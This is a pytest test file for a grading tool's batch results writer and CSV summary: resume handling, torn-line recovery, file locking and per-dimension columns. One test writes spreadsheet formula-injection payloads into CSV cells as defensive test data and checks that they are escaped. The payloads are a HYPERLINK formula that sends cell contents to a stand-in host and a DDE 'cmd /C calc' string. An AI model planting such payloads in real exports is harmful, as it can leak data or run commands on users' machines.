from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest

from grader.batch.results import ResultsWriter, read_results, resume_key
from grader.batch.summary import latest_rows, summary_row, write_csv
from grader.errors import ConfigError

DIMS = ["metrics", "tradeoffs"]


def _graded(key: str, level: str | None = "strong") -> dict[str, object]:
    return {
        "input": f"{key}.txt",
        "resume_key": key,
        "status": "graded",
        "dimensions": [{"id": "metrics", "level": level}, {"id": "tradeoffs", "level": "weak"}],
        "usage": {"calls": 2, "prompt_tokens": 10, "completion_tokens": 4},
        "cost": {"usd": 0.00123},
    }


def test_lines_are_appended_and_read_back_as_done(tmp_path: Path) -> None:
    path = tmp_path / "r.jsonl"
    writer = ResultsWriter(path)
    writer.append(_graded("a"))
    writer.append({"input": "b.txt", "resume_key": "b", "status": "failed", "error": "boom"})
    writer.close()
    again = ResultsWriter(path)
    assert again.existing.done == {"a"}  # a failed transcript is graded again on resume
    assert again.existing.lines == 2 and again.existing.warnings == []
    again.close()


def test_a_torn_last_line_is_cut_off_and_reported(tmp_path: Path) -> None:
    path = tmp_path / "r.jsonl"
    whole = json.dumps(_graded("a")) + "\n"
    path.write_text(whole + json.dumps(_graded("b"))[:40])
    writer = ResultsWriter(path)
    assert writer.existing.done == {"a"}
    assert any("torn last line" in w for w in writer.existing.warnings)
    writer.append(_graded("c"))
    writer.close()
    assert path.read_text() == whole + json.dumps(_graded("c"), separators=(",", ":")) + "\n"


def test_a_complete_last_line_without_newline_is_kept(tmp_path: Path) -> None:
    path = tmp_path / "r.jsonl"
    path.write_text(json.dumps(_graded("a")))
    writer = ResultsWriter(path)
    writer.append(_graded("b"))
    writer.close()
    assert [r["resume_key"] for _, r in read_results(path)] == ["a", "b"]


def test_an_unreadable_line_in_the_middle_is_skipped_not_deleted(tmp_path: Path) -> None:
    path = tmp_path / "r.jsonl"
    path.write_text(json.dumps(_graded("a")) + "\nnot json\n" + json.dumps(_graded("b")) + "\n")
    writer = ResultsWriter(path)
    writer.close()
    assert writer.existing.done == {"a", "b"}
    assert writer.existing.warnings == [f"{path}:2: not a result line; skipped"]
    assert "not json" in path.read_text()


def test_a_second_writer_on_the_same_file_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "r.jsonl"
    first = ResultsWriter(path)
    with pytest.raises(ConfigError, match="another grader batch is writing"):
        ResultsWriter(path)
    first.close()
    ResultsWriter(path).close()


def test_an_unwritable_results_path_is_a_config_error(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(ConfigError, match="cannot open the results file"):
        ResultsWriter(blocker / "r.jsonl")


def test_resume_key_depends_on_every_part() -> None:
    base = ("c", "r", "p", {"model": "m"}, {"seed": 0})
    key = resume_key(*base)
    assert key == resume_key(*base)
    assert key != resume_key("c2", *base[1:])
    assert key != resume_key("c", "r", "p2", {"model": "m"}, {"seed": 0})
    assert key != resume_key("c", "r", "p", {"model": "m2"}, {"seed": 0})
    assert key != resume_key("c", "r", "p", {"model": "m"}, {"seed": 1})


def test_latest_rows_prefer_a_graded_result_and_csv_has_one_column_per_dimension(
    tmp_path: Path,
) -> None:
    path = tmp_path / "r.jsonl"
    lines = [
        {"input": "a.txt", "resume_key": "a", "status": "failed", "error": "timeout"},
        _graded("a", level=None),
        {"input": "a.txt", "resume_key": "a", "status": "failed", "error": "later"},
        _graded("b"),
        _graded("other"),
    ]
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    rows = latest_rows(path, {"a", "b"}, DIMS)
    assert set(rows) == {"a", "b"}
    assert rows["a"]["status"] == "graded" and rows["a"]["failed_dimensions"] == "metrics"
    write_csv([rows["a"], rows["b"]], tmp_path / "s.csv", DIMS)
    with (tmp_path / "s.csv").open() as handle:
        table = list(csv.DictReader(handle))
    assert [r["metrics"] for r in table] == ["", "strong"]
    assert table[1]["tradeoffs"] == "weak" and table[1]["cost_usd"] == "0.001230"
    assert list(table[0])[:4] == ["input", "status", "metrics", "tradeoffs"]
    assert not [p for p in os.listdir(tmp_path) if p.endswith(".partial")]


def test_summary_row_of_a_failed_transcript() -> None:
    row = summary_row({"input": "x.txt", "status": "failed", "error": "bad file"}, DIMS)
    assert row["status"] == "failed" and row["error"] == "bad file" and row["metrics"] == ""


@pytest.mark.parametrize("start", ["=", "@", "+", "-", "\t", "\r"])
def test_csv_cells_never_start_a_spreadsheet_formula(start: str, tmp_path: Path) -> None:
    name = f'{start}HYPERLINK("http://x.example/?"&A1,"open").txt'
    record = {**_graded("a"), "input": name, "error": f"{start}cmd|' /C calc'!A0"}
    write_csv([summary_row(record, DIMS)], tmp_path / "s.csv", DIMS)
    with (tmp_path / "s.csv").open(newline="") as handle:
        [row] = list(csv.DictReader(handle))
    # A leading apostrophe: spreadsheets show the text as text and hide the apostrophe.
    assert row["input"] == "'" + name and row["error"] == f"'{start}cmd|' /C calc'!A0"
    assert row["metrics"] == "strong" and row["calls"] == "2" and row["cost_usd"] == "0.001230"


def test_a_results_file_that_cannot_be_written_is_a_config_error(tmp_path: Path) -> None:
    writer = ResultsWriter(tmp_path / "r.jsonl")
    full = open("/dev/full", "ab", buffering=0)  # noqa: SIM115 - swapped in for the file
    real, writer._file = writer._file, full
    with pytest.raises(ConfigError, match="cannot write the results file"):
        writer.append(_graded("a"))
    writer._file = real
    real.close()
    full.close()
    with pytest.raises(ConfigError, match="cannot write the summary CSV"):
        write_csv([], tmp_path / "r.jsonl" / "s.csv", DIMS)


def test_a_result_with_a_failed_dimension_is_not_done(tmp_path: Path) -> None:
    path = tmp_path / "r.jsonl"
    path.write_text(json.dumps(_graded("a", level=None)) + "\n" + json.dumps(_graded("b")) + "\n")
    writer = ResultsWriter(path)
    assert writer.existing.done == {"b"}
    writer.close()


def test_the_csv_says_which_calibration_decided_the_levels_or_that_none_did() -> None:
    calibrated = {**_graded("a"), "calibration": {"id": "pm-technical.passages"}}
    unfitted = {**_graded("b"), "warnings": ["levels are uncalibrated: no calibration ..."]}
    assert summary_row(calibrated, DIMS)["calibration"] == "pm-technical.passages"
    assert summary_row(unfitted, DIMS)["calibration"] == "uncalibrated"
    assert summary_row(_graded("c"), DIMS)["calibration"] == ""
